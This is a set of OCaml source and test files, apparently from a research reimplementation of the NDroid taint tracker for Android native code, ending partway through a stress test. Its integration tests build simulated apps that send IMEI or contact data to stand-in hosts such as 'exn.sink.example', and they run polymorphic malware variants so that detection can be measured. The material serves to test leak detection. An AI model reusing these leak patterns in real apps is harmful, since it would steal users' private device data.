  let available = Buffer.length b - d.d_pos in
  let count = min n (max 0 available) in
  let s = Buffer.sub b d.d_pos count in
  d.d_pos <- d.d_pos + count;
  s

let close fs fd =
  match Hashtbl.find_opt fs.fds fd with
  | Some d -> d.d_open <- false
  | None -> ()

let exists fs path = Hashtbl.mem fs.files path

let contents fs path =
  match Hashtbl.find_opt fs.files path with
  | Some b -> Buffer.contents b
  | None -> raise Not_found

let set_contents fs path data =
  let b = Buffer.create (String.length data) in
  Buffer.add_string b data;
  Hashtbl.replace fs.files path b

let writes fs = List.rev fs.journal

let path_of_fd fs fd =
  match Hashtbl.find_opt fs.fds fd with Some d -> Some d.d_path | None -> None
