type transmission = { dest : string; payload : string }

type sock = { mutable s_dest : string option; mutable s_open : bool }

type t = {
  socks : (int, sock) Hashtbl.t;
  mutable next_fd : int;
  mutable journal : transmission list;
}

let create () = { socks = Hashtbl.create 8; next_fd = 32; journal = [] }

let socket net =
  let fd = net.next_fd in
  net.next_fd <- fd + 1;
  Hashtbl.replace net.socks fd { s_dest = None; s_open = true };
  fd

let sock net fd =
  match Hashtbl.find_opt net.socks fd with
  | Some s when s.s_open -> s
  | Some _ -> invalid_arg (Printf.sprintf "socket %d is closed" fd)
  | None -> invalid_arg (Printf.sprintf "socket %d unknown" fd)

let connect net fd dest = (sock net fd).s_dest <- Some dest

let send net fd payload =
  let s = sock net fd in
  match s.s_dest with
  | Some dest ->
    net.journal <- { dest; payload } :: net.journal;
    String.length payload
  | None -> invalid_arg (Printf.sprintf "socket %d not connected" fd)

let sendto net fd payload dest =
  ignore (sock net fd);
  net.journal <- { dest; payload } :: net.journal;
  String.length payload

let recv net fd =
  ignore (sock net fd);
  "OK"

let close net fd =
  match Hashtbl.find_opt net.socks fd with
  | Some s -> s.s_open <- false
  | None -> ()

let transmissions net = List.rev net.journal
let dest_of net fd = match Hashtbl.find_opt net.socks fd with
  | Some s -> s.s_dest
  | None -> None
