(** Java-context sinks.

    TaintDroid "checks whether the taints will reach selected sinks"
    (Sec. II-B); its sinks are Java-context framework methods: network
    output, SMS sending, file output.  Each intrinsic performs the real
    (simulated) effect and reports to the {!Sink_monitor} with the taint the
    DVM attributes to the payload — which is exactly how the Table-I cases
    differ across analyses: flows TaintDroid under-taints arrive here with a
    clear tag and go unnoticed. *)

val install :
  Ndroid_dalvik.Vm.t -> Network.t -> Filesystem.t -> Sink_monitor.t -> unit

val sink_catalog : (string * string) list
(** (class, method) of every Java-context sink. *)
