lib/runtime/device.ml: Array Buffer Char Filename Hashtbl Int32 Int64 List Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_jni Ndroid_taint Printf String
