lib/runtime/device.mli: Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_jni Ndroid_taint
