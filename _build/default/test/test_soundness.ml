(* Soundness of the Table V rules on explicit flows.

   Non-interference check: generate a random straight-line program, mark one
   input register as tainted, execute it twice with two different input
   values while running the taint engine alongside one execution.  Every
   register or memory word whose final value differs between the two runs is
   data-dependent on the input — so the engine must have tainted it.

   This is exactly the guarantee the paper claims for explicit flows
   ("decreases the false negatives related to native codes by carefully
   tracking information flows"), and exactly what the Sec. VII evasion
   forfeits: the generator uses no conditional execution, so all flows here
   are explicit. *)

module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Exec = Ndroid_arm.Exec
module Asm = Ndroid_arm.Asm
module Taint = Ndroid_taint.Taint
module Taint_engine = Ndroid_core.Taint_engine
module Insn_taint = Ndroid_core.Insn_taint

let scratch_base = 0x00050000
let input_reg = 2

(* straight-line instructions over r0..r7, plus loads/stores through the
   fixed base r11 (whose value never depends on the input) *)
let insn_gen =
  let open QCheck.Gen in
  let reg = int_bound 7 in
  let off = map (fun n -> (n land 0x3F) * 4) (int_bound 255) in
  let op =
    oneofl
      [ Insn.ADD; Insn.SUB; Insn.EOR; Insn.ORR; Insn.AND; Insn.ADC; Insn.SBC;
        Insn.RSB; Insn.BIC ]
  in
  frequency
    [ (4, map3 (fun op (rd, rn) rm ->
              Insn.Dp { cond = Insn.AL; op; s = false; rd; rn; op2 = Insn.Reg rm })
            op (pair reg reg) reg);
      (2, map3 (fun op (rd, rn) imm ->
              Insn.Dp { cond = Insn.AL; op; s = false; rd; rn;
                        op2 = Insn.Imm (imm land 0xFF) })
            op (pair reg reg) (int_bound 255));
      (2, map2 (fun rd rm -> Insn.mov rd (Insn.Reg rm)) reg reg);
      (1, map2 (fun rd imm -> Insn.mov rd (Insn.Imm (imm land 0xFF))) reg
            (int_bound 255));
      (2, map3 (fun rd rm amount ->
              Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd; rn = 0;
                        op2 = Insn.Reg_shift_imm (rm, Insn.LSL, 1 + (amount mod 8)) })
            reg reg (int_bound 7));
      (2, map3 (fun rd rm rs -> Insn.mul rd rm rs) reg reg reg);
      (2, map2 (fun rd o -> Insn.ldr rd 11 o) reg off);
      (2, map2 (fun rd o -> Insn.str rd 11 o) reg off);
      (1, map2 (fun rd rm -> Insn.clz rd rm) reg reg) ]

let program_gen = QCheck.Gen.(list_size (int_range 5 40) insn_gen)

let print_program p = String.concat "; " (List.map Insn.to_string p)

(* run the program from a fixed initial state with [input] in r2; return the
   final registers and scratch memory *)
let run_with ?engine program input =
  let prog = Asm.assemble ~base:0x1000 (List.map (fun i -> Asm.I i) program) in
  let mem = Memory.create () in
  Asm.load prog mem;
  let cpu = Cpu.create () in
  for r = 0 to 7 do
    Cpu.set_reg cpu r (0x100 + (7 * r))
  done;
  Cpu.set_reg cpu 11 scratch_base;
  Cpu.set_reg cpu input_reg input;
  Cpu.set_pc cpu 0x1000;
  let stop = 0x1000 + (4 * List.length program) in
  while Cpu.pc cpu <> stop do
    (match engine with
     | Some e ->
       let insn, _ = Exec.fetch_decode cpu mem (Cpu.pc cpu) in
       Insn_taint.step e cpu ~addr:(Cpu.pc cpu) insn
     | None -> ());
    ignore (Exec.step cpu mem)
  done;
  let regs = Array.init 8 (fun r -> Cpu.reg cpu r) in
  let memory = Array.init 64 (fun i -> Memory.read_u32 mem (scratch_base + (4 * i))) in
  (regs, memory)

let check_non_interference program =
  let engine = Taint_engine.create () in
  Taint_engine.set_reg engine input_reg Taint.imei;
  let regs_a, mem_a = run_with ~engine program 0x1234567 in
  let regs_b, mem_b = run_with program 0x89ABCDE in
  let ok = ref true in
  Array.iteri
    (fun r va ->
      if va <> regs_b.(r) && Taint.is_clear (Taint_engine.reg engine r) then
        ok := false)
    regs_a;
  Array.iteri
    (fun i va ->
      if va <> mem_b.(i)
         && Taint.is_clear (Taint_engine.mem engine (scratch_base + (4 * i)) 4)
      then ok := false)
    mem_a;
  !ok

let prop_non_interference =
  QCheck.Test.make ~name:"explicit flows are always tainted (non-interference)"
    ~count:400
    (QCheck.make program_gen ~print:print_program)
    check_non_interference

(* the dual direction, statistically: programs that never read the input
   should end fully clean (no overtainting from nowhere) *)
let prop_no_overtaint_without_input =
  QCheck.Test.make ~name:"programs that ignore the input stay clean" ~count:200
    (QCheck.make
       QCheck.Gen.(list_size (int_range 5 30)
                     (map3
                        (fun op (rd, rn) imm ->
                          Insn.Dp { cond = Insn.AL; op; s = false;
                                    rd = (rd land 1); rn = (rn land 1);
                                    op2 = Insn.Imm (imm land 0xFF) })
                        (oneofl [ Insn.ADD; Insn.EOR; Insn.ORR ])
                        (pair (int_bound 7) (int_bound 7))
                        (int_bound 255)))
       ~print:print_program)
    (fun program ->
      (* only r0/r1 are touched and the input lives in r2 *)
      let engine = Taint_engine.create () in
      Taint_engine.set_reg engine input_reg Taint.imei;
      ignore (run_with ~engine program 0xAAAA);
      Taint.is_clear (Taint_engine.reg engine 0)
      && Taint.is_clear (Taint_engine.reg engine 1))

let suite =
  [ QCheck_alcotest.to_alcotest prop_non_interference;
    QCheck_alcotest.to_alcotest prop_no_overtaint_without_input ]

(* ---- interpreter robustness fuzz: random bytecode either terminates with
   a value or raises a *Java-level* error, never an OCaml crash ---- *)

module Vm = Ndroid_dalvik.Vm
module Interp = Ndroid_dalvik.Interp
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue

let bytecode_gen =
  let open QCheck.Gen in
  let reg = int_bound 5 in
  let op = oneofl [ B.Add; B.Sub; B.Mul; B.Div; B.And; B.Or; B.Xor ] in
  list_size (int_range 1 25)
    (frequency
       [ (4, map3 (fun op (d, a) b -> B.Binop (op, d, a, b)) op (pair reg reg) reg);
         (3, map2 (fun r v -> B.Const (r, Dvalue.Int (Int32.of_int v))) reg
               (int_bound 1000));
         (2, map2 (fun d s -> B.Move (d, s)) reg reg);
         (1, map2 (fun d n -> B.New_array (d, n, "I")) reg reg);
         (1, map3 (fun v a i -> B.Aget (v, a, i)) reg reg reg);
         (1, map3 (fun v a i -> B.Aput (v, a, i)) reg reg reg);
         (1, map (fun r -> B.Array_length (r, r)) reg);
         (1, map (fun r -> B.Throw r) reg) ])

let prop_interp_never_crashes =
  QCheck.Test.make ~name:"random bytecode never crashes the VM" ~count:300
    (QCheck.make bytecode_gen
       ~print:(fun p -> String.concat "; " (List.map B.to_string p)))
    (fun insns ->
      let vm = Vm.create () in
      Ndroid_android.Framework.install vm;
      let m =
        J.method_ ~cls:"LFuzz;" ~name:"m" ~shorty:"I" ~registers:6
          (List.map (fun i -> J.I i) insns @ [ J.I (B.Return 0) ])
      in
      Vm.define_class vm (J.class_ ~name:"LFuzz;" [ m ]);
      match Interp.invoke_by_name vm "LFuzz;" "m" [||] with
      | _ -> true
      | exception Vm.Java_throw _ -> true
      | exception Vm.Dvm_error _ -> true)

let prop_interp_deterministic =
  QCheck.Test.make ~name:"interpretation is deterministic" ~count:100
    (QCheck.make bytecode_gen
       ~print:(fun p -> String.concat "; " (List.map B.to_string p)))
    (fun insns ->
      let run () =
        let vm = Vm.create () in
        Ndroid_android.Framework.install vm;
        let m =
          J.method_ ~cls:"LFuzz;" ~name:"m" ~shorty:"I" ~registers:6
            (List.map (fun i -> J.I i) insns @ [ J.I (B.Return 0) ])
        in
        Vm.define_class vm (J.class_ ~name:"LFuzz;" [ m ]);
        match Interp.invoke_by_name vm "LFuzz;" "m" [||] with
        | Dvalue.Int n, _ -> `Value n
        | _ -> `Other
        | exception Vm.Java_throw _ -> `Thrown
        | exception Vm.Dvm_error _ -> `Error
      in
      run () = run ())

let suite =
  suite
  @ [ QCheck_alcotest.to_alcotest prop_interp_never_crashes;
      QCheck_alcotest.to_alcotest prop_interp_deterministic ]
