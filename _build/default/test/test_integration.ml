(* End-to-end flows across the JNI boundary that combine several hook
   groups at once: exceptions, field traffic, arrays, wide arguments. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint
module Ndroid = Ndroid_core.Ndroid
module Taintdroid = Ndroid_taintdroid.Taintdroid
module A = Ndroid_android
module H = Ndroid_apps.Harness

let check_taint = Alcotest.testable Taint.pp Taint.equal
let telephony = "Landroid/telephony/TelephonyManager;"
let socket = "Ljava/net/Socket;"
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))

(* ---- exception group: ThrowNew carries tainted data into Java ---- *)

let exn_cls = "LExnFlow;"

let exn_app : H.app =
  { H.app_name = "exception-flow";
    app_case = "exception hook group";
    description = "tainted data returned to Java inside a thrown exception";
    classes =
      [ J.class_ ~name:exn_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:exn_cls ~name:"failWith" ~shorty:"VL" "failWith";
            J.method_ ~cls:exn_cls ~name:"main" ~shorty:"V"
              ~handlers:[ ("t0", "t1", "h") ]
              [ J.I (B.Invoke (B.Static, { B.m_class = telephony;
                                           m_name = "getDeviceId" }, []));
                J.I (B.Move_result 0);
                J.L "t0";
                J.I (B.Invoke (B.Static, { B.m_class = exn_cls;
                                           m_name = "failWith" }, [ 0 ]));
                J.L "t1";
                J.I B.Return_void;
                J.L "h";
                J.I (B.Move_exception 1);
                J.I (B.Invoke (B.Virtual,
                               { B.m_class = "Ljava/lang/SecurityException;";
                                 m_name = "getMessage" }, [ 1 ]));
                J.I (B.Move_result 2);
                J.I (B.Const_string (3, "exn.sink.example"));
                J.I (B.Invoke (B.Static, { B.m_class = socket; m_name = "send" },
                               [ 3; 2 ]));
                J.I B.Return_void ] ] ];
    build_libs =
      (fun extern ->
        [ ( "exnflow",
            Asm.assemble ~extern ~base:Layout.app_lib_base
              [ Asm.Label "failWith";
                Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
                Asm.I (Insn.mov 9 (Insn.Reg 0));
                (* chars = GetStringUTFChars(env, jstr, 0): tainted bytes *)
                mov 1 2;
                Asm.I (Insn.mov 2 (Insn.Imm 0));
                Asm.Call "GetStringUTFChars";
                Asm.I (Insn.mov 4 (Insn.Reg 0));
                (* ThrowNew(SecurityException, chars) *)
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                Asm.La (1, "exn_name");
                Asm.Call "FindClass";
                mov 1 0;
                mov 2 4;
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                Asm.Call "ThrowNew";
                Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
                Asm.Align4;
                Asm.Label "exn_name";
                Asm.Asciz "Ljava/lang/SecurityException;" ] ) ]);
    entry = (exn_cls, "main");
    expected_sink = "Socket.send" }

let test_exception_flow_ndroid_detects () =
  let o = H.run H.Ndroid_full exn_app in
  Alcotest.(check bool) "NDroid detects" true o.H.detected;
  match o.H.leaks with
  | leak :: _ ->
    Alcotest.check check_taint "imei tag through the exception" Taint.imei
      leak.A.Sink_monitor.taint;
    Alcotest.(check string) "payload is the IMEI" "357242043237517"
      leak.A.Sink_monitor.data
  | [] -> Alcotest.fail "no leak"

let test_exception_flow_taintdroid_misses () =
  Alcotest.(check bool) "TaintDroid misses" false
    (H.run H.Taintdroid_only exn_app).H.detected

(* ---- field group: tainted value laundered through object fields ---- *)

let field_cls = "LFieldFlow;"

let field_app : H.app =
  { H.app_name = "field-flow";
    app_case = "field hook group";
    description = "taint moved between object fields from native code";
    classes =
      [ J.class_ ~name:field_cls ~super:"Ljava/lang/Object;"
          ~fields:[ "secret"; "copy" ]
          [ J.native_method ~cls:field_cls ~name:"shuffle" ~shorty:"VL" "shuffle";
            J.method_ ~cls:field_cls ~name:"main" ~shorty:"V" ~registers:8
              [ J.I (B.New_instance (0, field_cls));
                (* secret := tainted contact count *)
                J.I (B.Invoke (B.Static,
                               { B.m_class = "Landroid/provider/ContactsProvider;";
                                 m_name = "getContactCount" }, []));
                J.I (B.Move_result 1);
                J.I (B.Iput (1, 0, { B.f_class = field_cls; f_name = "secret" }));
                (* native moves secret -> copy through Get/SetIntField *)
                J.I (B.Invoke (B.Static, { B.m_class = field_cls;
                                           m_name = "shuffle" }, [ 0 ]));
                (* leak the copy *)
                J.I (B.Iget (2, 0, { B.f_class = field_cls; f_name = "copy" }));
                J.I (B.Invoke (B.Static,
                               { B.m_class = "Ljava/lang/String;";
                                 m_name = "valueOf" }, [ 2 ]));
                J.I (B.Move_result 3);
                J.I (B.Const_string (4, "fields.example"));
                J.I (B.Invoke (B.Static, { B.m_class = socket; m_name = "send" },
                               [ 4; 3 ]));
                J.I B.Return_void ] ] ];
    build_libs =
      (fun extern ->
        [ ( "fieldflow",
            Asm.assemble ~extern ~base:Layout.app_lib_base
              [ Asm.Label "shuffle";
                Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
                Asm.I (Insn.mov 9 (Insn.Reg 0));
                Asm.I (Insn.mov 4 (Insn.Reg 2)) (* obj *);
                (* cls = GetObjectClass(obj) *)
                mov 1 4;
                Asm.Call "GetObjectClass";
                Asm.I (Insn.mov 5 (Insn.Reg 0));
                (* fid_secret *)
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                mov 1 5;
                Asm.La (2, "f_secret");
                Asm.La (3, "f_sig");
                Asm.Call "GetFieldID";
                Asm.I (Insn.mov 6 (Insn.Reg 0));
                (* v = GetIntField(obj, fid_secret) *)
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                mov 1 4;
                mov 2 6;
                Asm.Call "GetIntField";
                Asm.I (Insn.mov 7 (Insn.Reg 0)) (* shadow r0 tainted -> r7 *);
                (* fid_copy *)
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                mov 1 5;
                Asm.La (2, "f_copy");
                Asm.La (3, "f_sig");
                Asm.Call "GetFieldID";
                Asm.I (Insn.mov 6 (Insn.Reg 0));
                (* SetIntField(obj, fid_copy, v) *)
                mov 3 7;
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                mov 1 4;
                mov 2 6;
                Asm.Call "SetIntField";
                Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
                Asm.Align4;
                Asm.Label "f_secret";
                Asm.Asciz "secret";
                Asm.Label "f_copy";
                Asm.Asciz "copy";
                Asm.Label "f_sig";
                Asm.Asciz "I" ] ) ]);
    entry = (field_cls, "main");
    expected_sink = "Socket.send" }

let test_field_flow () =
  Alcotest.(check bool) "NDroid detects" true (H.run H.Ndroid_full field_app).H.detected;
  Alcotest.(check bool) "TaintDroid misses" false
    (H.run H.Taintdroid_only field_app).H.detected

(* ---- wide (64-bit) arguments through the bridge ---- *)

let wide_cls = "LWide;"

let wide_app : H.app =
  { H.app_name = "wide-args";
    app_case = "marshaling";
    description = "long argument and result cross the bridge in two slots";
    classes =
      [ J.class_ ~name:wide_cls
          [ J.native_method ~cls:wide_cls ~name:"dbl" ~shorty:"JJ" "dbl" ] ];
    build_libs =
      (fun extern ->
        [ ( "wide",
            Asm.assemble ~extern ~base:Layout.app_lib_base
              [ Asm.Label "dbl";
                (* lo in r2, hi in r3: 64-bit double via adds/adc *)
                Asm.I (Insn.adds 0 2 (Insn.Reg 2));
                Asm.I (Insn.adc 1 3 (Insn.Reg 3));
                Asm.I Insn.bx_lr ] ) ]);
    entry = (wide_cls, "dbl");
    expected_sink = "" }

let test_wide_args_value_and_taint () =
  let device = H.boot wide_app in
  ignore (Ndroid.attach device);
  let v, t =
    Device.run device wide_cls "dbl"
      [| (Dvalue.Long 0x1_2345_6789L, Taint.sms) |]
  in
  Alcotest.(check bool) "doubled across the word boundary" true
    (Dvalue.equal v (Dvalue.Long 0x2_468A_CF12L));
  Alcotest.check check_taint "taint crossed both slots" Taint.sms t

(* ---- vanilla still works with all new apps ---- *)

let test_new_apps_run_vanilla () =
  List.iter
    (fun app ->
      let o = H.run H.Vanilla app in
      Alcotest.(check bool) (app.H.app_name ^ " is quiet under vanilla") false
        o.H.detected)
    [ exn_app; field_app ]

let suite =
  [ Alcotest.test_case "exception flow: NDroid detects" `Quick
      test_exception_flow_ndroid_detects;
    Alcotest.test_case "exception flow: TaintDroid misses" `Quick
      test_exception_flow_taintdroid_misses;
    Alcotest.test_case "field flow detected only by NDroid" `Quick test_field_flow;
    Alcotest.test_case "wide args: value and taint" `Quick
      test_wide_args_value_and_taint;
    Alcotest.test_case "new apps quiet under vanilla" `Quick
      test_new_apps_run_vanilla ]

(* ---- polymorphic malware: every morph detected only by NDroid ---- *)

let test_polymorphic_all_morphs () =
  List.iter
    (fun app ->
      Alcotest.(check bool) (app.H.app_name ^ " caught by NDroid") true
        (H.run H.Ndroid_full app).H.detected;
      Alcotest.(check bool) (app.H.app_name ^ " missed by TaintDroid") false
        (H.run H.Taintdroid_only app).H.detected)
    Ndroid_apps.Polymorphic.variants

let test_polymorphic_morphs_use_distinct_sinks () =
  let sinks =
    List.map
      (fun app ->
        match (H.run H.Ndroid_full app).H.leaks with
        | l :: _ -> l.A.Sink_monitor.sink
        | [] -> "(none)")
      Ndroid_apps.Polymorphic.variants
  in
  Alcotest.(check (list string)) "three different sinks"
    [ "send"; "fprintf"; "Socket.send" ] sinks

let suite =
  suite
  @ [ Alcotest.test_case "polymorphic: all morphs" `Quick
        test_polymorphic_all_morphs;
      Alcotest.test_case "polymorphic: distinct sinks" `Quick
        test_polymorphic_morphs_use_distinct_sinks ]

(* ---- the Sec. VI batch: 3 deliver, 1 leaks ---- *)

let test_sec6_batch_counts () =
  let vs = Ndroid_apps.Sec6_batch.summary () in
  let delivered =
    List.filter (fun v -> v.Ndroid_apps.Sec6_batch.delivered_to_native) vs
  in
  let leaked = List.filter (fun v -> v.Ndroid_apps.Sec6_batch.leaked) vs in
  Alcotest.(check int) "8 apps" 8 (List.length vs);
  Alcotest.(check int) "3 delivered" 3 (List.length delivered);
  Alcotest.(check int) "1 leaked" 1 (List.length leaked);
  Alcotest.(check string) "the leaker is ePhone" "ePhone3.3"
    (List.hd leaked).Ndroid_apps.Sec6_batch.v_app

let suite =
  suite
  @ [ Alcotest.test_case "Sec. VI batch: 3 deliver, 1 leaks" `Quick
        test_sec6_batch_counts ]
