(* Taint label lattice, taint maps, shadow registers. *)

module Taint = Ndroid_taint.Taint
module Taint_map = Ndroid_taint.Taint_map
module Shadow_regs = Ndroid_taint.Shadow_regs

let check_taint = Alcotest.testable Taint.pp Taint.equal

let test_predefined_values () =
  (* TaintDroid's published constants, which the paper's logs use *)
  Alcotest.(check int) "contacts" 0x2 (Taint.to_bits Taint.contacts);
  Alcotest.(check int) "sms" 0x200 (Taint.to_bits Taint.sms);
  Alcotest.(check int) "imei" 0x400 (Taint.to_bits Taint.imei);
  Alcotest.(check int) "imsi" 0x800 (Taint.to_bits Taint.imsi);
  Alcotest.(check int) "iccid" 0x1000 (Taint.to_bits Taint.iccid);
  Alcotest.(check int) "location" 0x1 (Taint.to_bits Taint.location)

let test_paper_log_values () =
  (* 0x202 (Fig. 6) and 0x1602 (Fig. 9) decompose as the paper implies *)
  let qq = Taint.union Taint.contacts Taint.sms in
  Alcotest.(check int) "contacts|sms" 0x202 (Taint.to_bits qq);
  let poc3 =
    List.fold_left Taint.union Taint.clear
      [ Taint.contacts; Taint.sms; Taint.imei; Taint.iccid ]
  in
  Alcotest.(check int) "0x1602" 0x1602 (Taint.to_bits poc3)

let test_union_basics () =
  Alcotest.check check_taint "clear is identity"
    Taint.contacts (Taint.union Taint.clear Taint.contacts);
  Alcotest.(check bool) "clear is clear" true (Taint.is_clear Taint.clear);
  Alcotest.(check bool) "tainted" true (Taint.is_tainted Taint.sms);
  Alcotest.(check bool) "subset" true
    (Taint.subset Taint.sms (Taint.union Taint.sms Taint.imei));
  Alcotest.(check bool) "not subset" false
    (Taint.subset (Taint.union Taint.sms Taint.imei) Taint.sms)

let test_categories () =
  let t = Taint.union Taint.contacts Taint.sms in
  Alcotest.(check (list string)) "names" [ "contacts"; "sms" ] (Taint.categories t);
  Alcotest.(check string) "verbose"
    "0x202(contacts|sms)"
    (Format.asprintf "%a" Taint.pp_verbose t)

let taint_gen = QCheck.map Taint.of_bits (QCheck.int_bound 0xFFFF)

let prop_union_commutative =
  QCheck.Test.make ~name:"taint union commutative" ~count:200
    (QCheck.pair taint_gen taint_gen)
    (fun (a, b) -> Taint.equal (Taint.union a b) (Taint.union b a))

let prop_union_associative =
  QCheck.Test.make ~name:"taint union associative" ~count:200
    (QCheck.triple taint_gen taint_gen taint_gen)
    (fun (a, b, c) ->
      Taint.equal
        (Taint.union a (Taint.union b c))
        (Taint.union (Taint.union a b) c))

let prop_union_idempotent =
  QCheck.Test.make ~name:"taint union idempotent" ~count:200 taint_gen (fun a ->
      Taint.equal (Taint.union a a) a)

let prop_union_monotone =
  QCheck.Test.make ~name:"operands are subsets of the union" ~count:200
    (QCheck.pair taint_gen taint_gen)
    (fun (a, b) -> Taint.subset a (Taint.union a b) && Taint.subset b (Taint.union a b))

let test_map_ranges () =
  let m = Taint_map.create () in
  Taint_map.add_range m 100 8 Taint.sms;
  Alcotest.check check_taint "inside" Taint.sms (Taint_map.get m 104);
  Alcotest.check check_taint "outside" Taint.clear (Taint_map.get m 108);
  Alcotest.check check_taint "range union" Taint.sms (Taint_map.get_range m 96 16);
  Alcotest.(check int) "byte count" 8 (Taint_map.tainted_bytes m);
  Taint_map.clear_range m 100 4;
  Alcotest.(check int) "after clear" 4 (Taint_map.tainted_bytes m)

let test_map_copy_overlapping () =
  let m = Taint_map.create () in
  Taint_map.set m 10 Taint.imei;
  Taint_map.set m 11 Taint.sms;
  (* overlapping forward copy must behave like memmove *)
  Taint_map.copy_range m ~src:10 ~dst:11 ~len:2;
  Alcotest.check check_taint "dst0" Taint.imei (Taint_map.get m 11);
  Alcotest.check check_taint "dst1" Taint.sms (Taint_map.get m 12)

let test_map_set_clears () =
  let m = Taint_map.create () in
  Taint_map.set m 5 Taint.sms;
  Taint_map.set m 5 Taint.clear;
  Alcotest.(check int) "clear removes the entry" 0 (Taint_map.tainted_bytes m)

let test_shadow_regs () =
  let s = Shadow_regs.create 16 in
  Shadow_regs.set s 3 Taint.contacts;
  Shadow_regs.add s 3 Taint.sms;
  Alcotest.check check_taint "union via add" (Taint.of_bits 0x202)
    (Shadow_regs.get s 3);
  Alcotest.(check bool) "any" true (Shadow_regs.any_tainted s);
  let snap = Shadow_regs.snapshot s in
  Shadow_regs.clear_all s;
  Alcotest.(check bool) "cleared" false (Shadow_regs.any_tainted s);
  Shadow_regs.restore s snap;
  Alcotest.check check_taint "restored" (Taint.of_bits 0x202) (Shadow_regs.get s 3)

let test_shadow_bounds () =
  let s = Shadow_regs.create 16 in
  Alcotest.check_raises "out of range"
    (Invalid_argument "Shadow_regs: register 16 out of range") (fun () ->
      ignore (Shadow_regs.get s 16))

let suite =
  [ Alcotest.test_case "predefined tag values" `Quick test_predefined_values;
    Alcotest.test_case "paper log tag values" `Quick test_paper_log_values;
    Alcotest.test_case "union basics" `Quick test_union_basics;
    Alcotest.test_case "category names" `Quick test_categories;
    Alcotest.test_case "map ranges" `Quick test_map_ranges;
    Alcotest.test_case "map overlapping copy" `Quick test_map_copy_overlapping;
    Alcotest.test_case "map set clear removes" `Quick test_map_set_clears;
    Alcotest.test_case "shadow registers" `Quick test_shadow_regs;
    Alcotest.test_case "shadow register bounds" `Quick test_shadow_bounds;
    QCheck_alcotest.to_alcotest prop_union_commutative;
    QCheck_alcotest.to_alcotest prop_union_associative;
    QCheck_alcotest.to_alcotest prop_union_idempotent;
    QCheck_alcotest.to_alcotest prop_union_monotone ]
