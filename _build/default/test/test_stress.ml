(* Stress: deep Java <-> native ping-pong recursion, artifact parsers under
   random corruption, and a long mixed workload with the GC running. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint
module H = Ndroid_apps.Harness

let tv ?(taint = Taint.clear) v : Vm.tval = (v, taint)
let int32 n = Dvalue.Int (Int32.of_int n)
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))

(* Java pingJava(n) calls native pingNative(n-1), which calls back
   pingJava(n-1)... the bridge nests one native frame and one interpreter
   frame per level. *)
let cls = "LPong;"

let pingpong_app : H.app =
  { H.app_name = "pingpong";
    app_case = "stress";
    description = "deep Java<->native recursion";
    classes =
      [ J.class_ ~name:cls
          [ J.native_method ~cls ~name:"pingNative" ~shorty:"II" "pingNative";
            J.method_ ~cls ~name:"pingJava" ~shorty:"II" ~registers:6
              [ J.Ifz_l (B.Le, 5, "base");
                J.I (B.Binop_lit (B.Sub, 0, 5, 1l));
                J.I (B.Invoke (B.Static, { B.m_class = cls;
                                           m_name = "pingNative" }, [ 0 ]));
                J.I (B.Move_result 1);
                J.I (B.Binop_lit (B.Add, 1, 1, 1l));
                J.I (B.Return 1);
                J.L "base";
                J.I (B.Const (0, Dvalue.Int 0l));
                J.I (B.Return 0) ] ] ];
    build_libs =
      (fun extern ->
        [ ( "pong",
            Asm.assemble ~extern ~base:Layout.app_lib_base
              [ Asm.Label "pingNative";
                Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
                Asm.I (Insn.mov 9 (Insn.Reg 0));
                Asm.I (Insn.mov 4 (Insn.Reg 2)) (* n *);
                Asm.La (1, "c");
                Asm.Call "FindClass";
                mov 1 0;
                Asm.La (2, "m");
                Asm.La (3, "s");
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                Asm.Call "GetStaticMethodID";
                mov 2 0;
                mov 3 4;
                Asm.I (Insn.mov 0 (Insn.Reg 9));
                Asm.Call "CallStaticIntMethod";
                Asm.I (Insn.add 0 0 (Insn.Imm 1));
                Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
                Asm.Align4;
                Asm.Label "c";
                Asm.Asciz "LPong;";
                Asm.Label "m";
                Asm.Asciz "pingJava";
                Asm.Label "s";
                Asm.Asciz "(I)I" ] ) ]);
    entry = (cls, "pingJava");
    expected_sink = "" }

let test_deep_pingpong () =
  let device = H.boot pingpong_app in
  ignore (Ndroid_core.Ndroid.attach device);
  let depth = 40 in
  let v, _ = Device.run device cls "pingJava" [| tv (int32 depth) |] in
  (* each level adds 2 (one in Java, one in native) *)
  Alcotest.(check bool) "depth x2" true (Dvalue.equal v (int32 (2 * depth)))

let test_pingpong_carries_taint_down () =
  let device = H.boot pingpong_app in
  ignore (Ndroid_core.Ndroid.attach device);
